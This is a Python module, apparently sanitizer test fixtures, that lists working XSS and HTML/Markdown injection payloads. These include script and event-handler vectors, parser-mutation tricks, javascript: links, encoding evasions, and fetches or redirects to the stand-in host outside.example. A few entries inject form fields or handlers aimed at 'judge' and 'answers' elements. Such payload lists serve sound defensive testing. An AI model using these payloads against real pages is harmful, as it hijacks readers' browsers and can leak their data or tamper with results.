"""What one would write into a text to run a script or to fetch something in a reader's browser.

For every field that shows what others wrote. One that works opens a dialog, asks `OUTSIDE` for
something, leaves the page, or changes what stands outside of its own text.
"""

from __future__ import annotations

OUTSIDE = "outside.example"
_FETCH = f"https://{OUTSIDE}/x"

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    f"<script src=//{OUTSIDE}/x.js></script>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</title></textarea></style></noscript></template></script><script>alert(1)</script>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x "
    "onerror=alert(1)></template>",
)
_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG SRC=x OnErRoR\t=\nalert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<a href=# accesskey=x onclick=alert(1)>x</a>",
    "<button popovertarget=x>x</button><xss onbeforetoggle=alert(1) popover id=x>",
    "<div onpointerrawupdate=alert(1)>move over me</div>",
)
_FOREIGN = (
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    f'<svg><use href="{_FETCH}.svg#a"/><image href="{_FETCH}.png"/></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path "
    'id="</style><img onerror=alert(1) src>">',
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
)
_EMBEDDED = (
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    f'<meta http-equiv=refresh content="0;url={_FETCH}">',
    f'<base href="https://{OUTSIDE}/"><a href=x>x</a>',
    f'<link rel=stylesheet href="{_FETCH}.css"><link rel=prefetch href="{_FETCH}">',
    f'<style>*{{background:url({_FETCH})}} @import "{_FETCH}.css";</style>',
    f'<div style="background:url({_FETCH});position:fixed;inset:0;z-index:99">x</div>',
    f'<img srcset="{_FETCH} 1x, {_FETCH}2 2x" sizes=1px>',
    f'<form action="{_FETCH}"><button formaction=javascript:alert(1)>x</button></form>',
    f"<table background={_FETCH}><td background={_FETCH}>x</table>",
    f'<div id=unit class=judge hx-get="{_FETCH}" hx-trigger=load hx-on:load="alert(1)">x</div>',
    '<input name=csrfmiddlewaretoken value=x><input name=q0 value=5 form="answers">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1 ?><img src=x onerror=alert(1)>",
)
_LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&Tab;script&colon;alert&lpar;1&rpar;)",
    "[x](&#x01;javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"[x](//{OUTSIDE}/x) [y](\\\\{OUTSIDE}\\x) [z](https:\\\\{OUTSIDE})",
    "[x](http:javascript:alert(1)) [y](file:///etc/passwd) [z](blob:https://x/1)",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "[x]\n\n[x]: javascript:alert(1) 'title\" onclick=\"alert(1)'",
    '[x](https://a.example "\'"><img src=x onerror=alert(1)>")',
    '[x](https://a.example/"onmouseover="alert(1) )',
    "[x](https://a.example/'><script>alert(1)</script>)",
    '<https://a.example/"onmouseover="alert(1)>',
    "[a](https://a.example/`<b>`) [`</code><img src=x onerror=alert(1)>`](https://a.example)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
    "[[1]](javascript:alert(1)) [1](javascript:alert(1)) [1]",
    '[1]: javascript:alert(1)\n\n[1] [2] [2"onclick=alert(1)]',
)
_IMAGES = (
    f"![x]({_FETCH}.png)",
    f"![x][y]\n\n[y]: {_FETCH}.png",
    f"[![x]({_FETCH}.png)]({_FETCH})",
    '![x" onerror="alert(1)](x)',
    '![x](x" onerror="alert(1))',
    '![x](x "\\" onerror=alert(1) x=\\"")',
    "![x](javascript:alert(1))",
    f"![![![<img src={_FETCH}>](a)](b)](c)",
)
_CODE = (
    '```"><img/src=x/onerror=alert(1)>\ncode\n```',
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    '~~~python" class="judge" onclick="alert(1)\nx = "</span><img src=x onerror=alert(1)>"\n~~~',
    "`</code><img src=x onerror=alert(1)>`",
    "    </code></pre><img src=x onerror=alert(1)>",
    "```js\n// </span><svg onload=alert(1)>\n`${alert(1)}` </script>\n",
)
_BLOCKS = (
    "| <img src=x onerror=alert(1)> |\n|---|\n| </td></table><script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>\n\n</h1><script>alert(1)</script>\n===",
    "> <iframe src=javascript:alert(1)>\n\n- </li></ul><svg onload=alert(1)>\n1. </ol>",
    "*<img src=x onerror=alert(1)*>*\n\n**<svg **onload=alert(1)>",
    "<div>\n\n*a*\n\n</div></div></div></section></main><script>alert(1)</script>",
    "# x {#unit .judge onclick=alert(1)}\n\n[x](https://a.example){onclick=alert(1)}",
)
_CHARACTERS = (
    "<img\0 src=x\0 onerror\0=alert(1)> <scr\0ipt>alert(1)</scr\0ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2028alert(1)\u2029 \ufeff<b>x</b>",
    "\u202e<img src=x onerror=alert(1)>\u202c [\u202emoc.knab](https://\u202ea.example/\u200bx)",
    "&#8238;&#x202E;&#0;&#8203; [x](https://a.example/&#8238;y) `\u2066x\u2069`",
    "\ud800<script>alert(1)</script>\udfff",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x08\x08\x7f",
    "{{ constructor.constructor('alert(1)')() }} {% load x %} ${alert(1)} #{alert(1)}",
    "'\"><svg/onload=alert(1)>'\"`--!></script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)

PAYLOADS: tuple[str, ...] = (
    *_SCRIPTS,
    *_HANDLERS,
    *_FOREIGN,
    *_EMBEDDED,
    *_LINKS,
    *_IMAGES,
    *_CODE,
    *_BLOCKS,
    *_CHARACTERS,
)
